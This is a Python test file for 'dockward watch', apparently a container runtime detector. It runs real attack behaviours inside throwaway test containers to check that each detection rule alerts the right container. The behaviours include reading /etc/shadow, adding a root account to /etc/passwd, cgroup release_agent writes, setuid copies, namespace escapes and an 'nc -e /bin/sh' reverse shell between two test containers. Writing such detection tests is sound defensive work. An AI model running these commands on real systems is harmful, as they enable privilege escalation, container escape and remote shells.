"""test_watch.py: every runtime rule of dockward watch, performed for real in containers on the test daemon, alerts the right container."""
import os

import pytest

from conftest import run_dockward, ROOT
from watch_env import Watch, build_image, container_ip, gateway_ip, rules_dir


def run(d, *args):
    return d.docker("run", "-d", *args)


def ex(d, name, *cmd, tty=False):
    """docker exec; the behaviour may fail (EPERM and the like): only that it was attempted matters."""
    return d.docker("exec", *(["-t"] if tty else []), name, *cmd, check=False)


@pytest.fixture(scope="module")
def attacks(dockerd, tmp_path_factory):
    """One watch session over every behaviour; the alerts it raised, and its summary."""
    dockerd.remove_all_containers()
    img = build_image(dockerd)
    rules = rules_dir(tmp_path_factory.mktemp("watch"), enable=("kernel_module_syscall",))
    # only this module's containers (all named w*): other engines on the machine may run containers too
    w = Watch(dockerd, rules, extra=("--containers", "w*"))
    d = dockerd
    gw = gateway_ip(d)
    try:
        run(d, "--name", "wa", img, "sleep", "600")
        # files
        ex(d, "wa", "cat", "/etc/shadow")
        ex(d, "wa", "sh", "-c", "echo x > /usr/bin/evil")
        ex(d, "wa", "sh", "-c", "echo 'x:x:0:0::/:/bin/sh' >> /etc/passwd")
        ex(d, "wa", "sh", "-c", "echo 1 > /proc/sys/kernel/dw_test")
        ex(d, "wa", "sh", "-c", "mkdir -p /tmp/cg && echo /x > /tmp/cg/release_agent")
        ex(d, "wa", "sh", "-c", "echo start > /var/log/app.log")
        ex(d, "wa", "truncate", "-s", "0", "/var/log/app.log")
        ex(d, "wa", "sh", "-c", "cp /bin/busybox /tmp/suid && chmod u+s /tmp/suid")
        ex(d, "wa", "ln", "-s", "/etc/shadow", "/tmp/innocent")
        # processes
        ex(d, "wa", "sh", "-c", "true", tty=True)
        ex(d, "wa", "sh", "-c", "cp /bin/busybox /tmp/dropped && /tmp/dropped true")
        ex(d, "wa", "/bin/watch_helper", "memfd")
        ex(d, "wa", "/bin/watch_helper", "deleted")
        ex(d, "wa", "/bin/rpm", "-q", "openssl")
        ex(d, "wa", "/usr/bin/gcc", "--version")
        ex(d, "wa", "/bin/watch_helper", "ptrace")
        # network: connect() to the bridge's gateway is enough, nothing needs to listen
        ex(d, "wa", "nc", "-w", "1", gw, "3333")
        ex(d, "wa", "nc", "-w", "1", gw, "31337")
        ex(d, "wa", "/bin/watch_helper", "packet")
        # relative paths: from the working directory and from a directory descriptor
        run(d, "--name", "wrel", img, "sleep", "600")
        ex(d, "wrel", "sh", "-c", "cd /etc && cat shadow")
        ex(d, "wrel", "sh", "-c", "cd /etc && cat ./sudoers")
        ex(d, "wrel", "/bin/watch_helper", "openat", "/etc", "gshadow")
        # "..", "." or "//" in the path: the opened file's own path is matched at the syscall's exit
        run(d, "--name", "wdots", img, "sleep", "600")
        ex(d, "wdots", "sh", "-c", "cd /tmp && cat ../etc/shadow")
        ex(d, "wdots", "cat", "/tmp/../etc/shadow")
        ex(d, "wdots", "/bin/watch_helper", "openat", "/tmp", "../etc/shadow")
        ex(d, "wdots", "cat", "/./etc//shadow")
        ex(d, "wdots", "cat", "/tmp/../etc/passwd")     # not sensitive: no alert
        # syscalls the default seccomp profile refuses before any tracepoint: an unconfined container
        run(d, "--name", "wu", "--security-opt", "seccomp=unconfined", img, "sleep", "600")
        ex(d, "wu", "unshare", "-m", "true")
        ex(d, "wu", "nsenter", "-t", "1", "-m", "true")
        ex(d, "wu", "mount", "-t", "tmpfs", "none", "/mnt")
        ex(d, "wu", "/bin/watch_helper", "bpf")
        ex(d, "wu", "/bin/watch_helper", "userfaultfd")
        ex(d, "wu", "/bin/watch_helper", "module")
        ex(d, "wu", "/bin/watch_helper", "vmwrite")
        # the engine's socket mounted into a container, and used
        run(d, "--name", "wsock", "-v", "%s:/var/run/docker.sock" % d.sock, img, "sleep", "600")
        ex(d, "wsock", "/bin/watch_helper", "unix", "/var/run/docker.sock")
        # launch-time risks
        run(d, "--name", "wcap", "--cap-add", "SYS_PTRACE", img, "sleep", "600")
        run(d, "--name", "wmnt", "-v", "/etc:/host/etc:ro", img, "sleep", "600")
        run(d, "--name", "wpid", "--pid", "host", img, "sleep", "600")
        # reverse shell from wrv to a listener in wrl; an inetd-style cat server in wrl stays quiet
        run(d, "--name", "wrl", img, "sh", "-c", "nc -l -p 9001 >/dev/null & nc -l -p 9002 -e /bin/cat & wait")
        run(d, "--name", "wrv", img, "sleep", "600")
        ip = container_ip(d, "wrl")
        d.docker("exec", "-d", "wrv", "nc", ip, "9001", "-e", "/bin/sh")
        ex(d, "wrv", "sh", "-c", "echo hi | nc -w 1 %s 9002" % ip)
        # a web server whose CGI runs a shell
        run(d, "--name", "wweb", img, "httpd", "-f", "-p", "8080", "-h", "/www")
        ex(d, "wa", "wget", "-q", "-O", "-", "http://%s:8080/cgi-bin/run.cgi" % container_ip(d, "wweb"))
        w.wait_for(lambda a: a["rule"] == "shell_from_network_service")
    finally:
        alerts, summary = w.stop()
        d.remove_all_containers()
    return {"alerts": alerts, "summary": summary, "rc": w.rc}


# a kernel without loadable modules (no /proc/modules, like this CI's) never checks CAP_SYS_MODULE
MODULES = os.path.exists("/proc/modules")

EXPECTED = [
    ("sensitive_file_read", "wa"),
    ("binary_dir_write", "wa"),
    ("account_file_modified", "wa"),
    ("proc_sys_write", "wa"),
    ("cgroup_release_agent_write", "wa"),
    ("log_cleared", "wa"),
    ("log_truncated", "wa"),
    ("setid_bit_set", "wa"),
    ("sensitive_file_symlink", "wa"),
    ("terminal_shell", "wa"),
    ("drop_and_execute", "wa"),
    ("fileless_execution", "wa"),
    ("deleted_binary_execution", "wa"),
    ("package_manager_run", "wa"),
    ("compiler_run", "wa"),
    ("ptrace_attach", "wa"),
    ("process_memory_write", "wu"),
    ("mining_pool_connection", "wa"),
    ("shell_port_connection", "wa"),
    ("packet_socket_created", "wa"),
    ("unshare_attempt", "wu"),
    ("setns_attempt", "wu"),
    ("mount_attempt", "wu"),
    ("bpf_from_container", "wu"),
    ("userfaultfd_used", "wu"),
    ("kernel_module_syscall", "wu"),
    ("seccomp_unconfined_container", "wu"),
    ("docker_socket_access", "wsock"),
    ("docker_socket_mounted", "wsock"),
    ("dangerous_capabilities_added", "wcap"),
    ("sensitive_host_mount", "wmnt"),
    ("host_namespaces_container", "wpid"),
    ("reverse_shell", "wrv"),
    ("shell_from_network_service", "wweb"),
] + ([("kernel_module_load", "wu")] if MODULES else [])


@pytest.mark.parametrize("rule,container", EXPECTED, ids=[r for r, _ in EXPECTED])
def test_rule_alerts_the_right_container(attacks, rule, container):
    hits = [a for a in attacks["alerts"] if a["rule"] == rule]
    assert hits, "no %s alert; rules that fired: %s" % (rule, sorted({a["rule"] for a in attacks["alerts"]}))
    names = {a["container"]["name"] for a in hits if a["container"]}
    assert container in names, "%s alerted %s, expected %s" % (rule, names, container)
    for a in hits:
        c = a["container"]
        assert c and len(c["id"]) == 64 and c["image"] == "dwtest/watch:1"


def test_every_shipped_rule_is_exercised():
    """Each rule in rules/runtime has a behaviour above, except the one no test daemon here can start."""
    import configparser
    cp = configparser.ConfigParser(interpolation=None, strict=False)
    for f in os.listdir(os.path.join(ROOT, "rules", "runtime")):
        cp.read(os.path.join(ROOT, "rules", "runtime", f))
    tested = {r for r, _ in EXPECTED}
    # privileged containers can be created but not started on this machine: checked in tests/unit/test_runtime_match.c
    missing = set(cp.sections()) - tested - {"privileged_container_started"}
    assert missing == (set() if MODULES else {"kernel_module_load"})


def test_relative_paths_are_made_absolute(attacks):
    paths = sorted(a["event"]["path"] for a in attacks["alerts"]
                   if a["rule"] == "sensitive_file_read" and a["container"]["name"] == "wrel")
    assert paths == ["/etc/gshadow", "/etc/shadow", "/etc/sudoers"], paths


def test_roundabout_paths_are_resolved(attacks):
    got = sorted((a["process"]["cmdline"], a["event"]["path"]) for a in attacks["alerts"]
                 if a["container"] and a["container"]["name"] == "wdots")
    assert got == [("/bin/watch_helper openat /tmp ../etc/shadow", "/etc/shadow"),
                   ("cat ../etc/shadow", "/etc/shadow"),
                   ("cat /./etc//shadow", "/etc/shadow"),
                   ("cat /tmp/../etc/shadow", "/etc/shadow")], got
    assert all(a["rule"] == "sensitive_file_read" for a in attacks["alerts"]
               if a["container"] and a["container"]["name"] == "wdots")


def test_inetd_style_server_is_not_a_reverse_shell(attacks):
    assert not [a for a in attacks["alerts"] if a["rule"] == "reverse_shell" and a["container"]["name"] == "wrl"]


def test_alert_carries_process_event_and_posture(attacks):
    a = next(a for a in attacks["alerts"] if a["rule"] == "sensitive_file_read")
    assert a["severity"] == "high" and a["mitre"] == "T1552.001" and a["time"].endswith("Z")
    assert a["event"]["type"] == "open" and a["event"]["path"] == "/etc/shadow"
    p = a["process"]
    assert p["name"] == "cat" and p["pid"] > 0 and p["ppid"] > 0 and p["uid"] == 0
    assert p["exe"] == "/bin/busybox" and p["cmdline"] == "cat /etc/shadow"
    assert p["parents"] and all("pid" in x and "name" in x for x in p["parents"])
    assert a["posture"] == {"privileged": False, "root": True, "seccomp_unconfined": False, "docker_sock": False,
                            "pid_host": False, "network_host": False, "cap_add": [], "vulnerable": None,
                            "vulnerable_note": "no vulnerability database"}     # from the scan cache, never scanned here
    s = next(a for a in attacks["alerts"] if a["rule"] == "userfaultfd_used")
    assert s["posture"]["seccomp_unconfined"] is True
    r = next(a for a in attacks["alerts"] if a["rule"] == "reverse_shell")
    assert set(r["event"]["flags"]) & {"stdin_socket", "stdout_socket"}
    m = next(a for a in attacks["alerts"] if a["rule"] == "mining_pool_connection")
    assert m["event"]["port"] == 3333 and m["event"]["address"].startswith("10.199.")


def test_summary_counts_and_no_drops(attacks):
    s = attacks["summary"]
    assert s is not None
    assert s["dropped"] == 0
    assert s["alerts"] == len(attacks["alerts"]) and s["events"] >= s["alerts"] - 8
    assert attacks["rc"] == 1   # alerts are findings


def test_list_rules_marks_each_rule(tmp_path):
    r = run_dockward("watch", "--rules", os.path.join(ROOT, "rules", "runtime"), "--list-rules", "-f", "json")
    assert r.rc == 0, r.err
    rules = {x["rule"]: x for x in r.json()}
    if MODULES:
        assert rules["kernel_module_load"]["status"] == "active"
    else:
        # degraded explicitly, never silently missing
        assert rules["kernel_module_load"]["status"] == "not_evaluable"
        assert "cannot load modules" in rules["kernel_module_load"]["reason"]
    assert rules["kernel_module_syscall"]["status"] == "disabled"
    assert rules["sensitive_file_read"]["status"] == "active"
    assert all(x["status"] in ("active", "disabled", "not_evaluable") for x in rules.values())


def test_disabled_rule_is_listed_as_such(tmp_path):
    d = rules_dir(tmp_path)
    p = os.path.join(d, "kernel.ini")
    text = open(p).read().replace("event = bpf\n", "event = bpf\nenabled = false\n")
    open(p, "w").write(text)
    r = run_dockward("watch", "--rules", d, "--list-rules", "-f", "json")
    assert r.rc == 0, r.err
    rules = {x["rule"]: x for x in r.json()}
    assert rules["bpf_from_container"]["status"] == "disabled"


def test_bad_rules_are_a_usage_error(tmp_path):
    (tmp_path / "bad.ini").write_text("[x]\ndescription = d\nseverity = high\nevent = open\nopen = read\n")
    r = run_dockward("watch", "--rules", str(tmp_path), "--list-rules")
    assert r.rc == 2 and "needs a path" in r.err
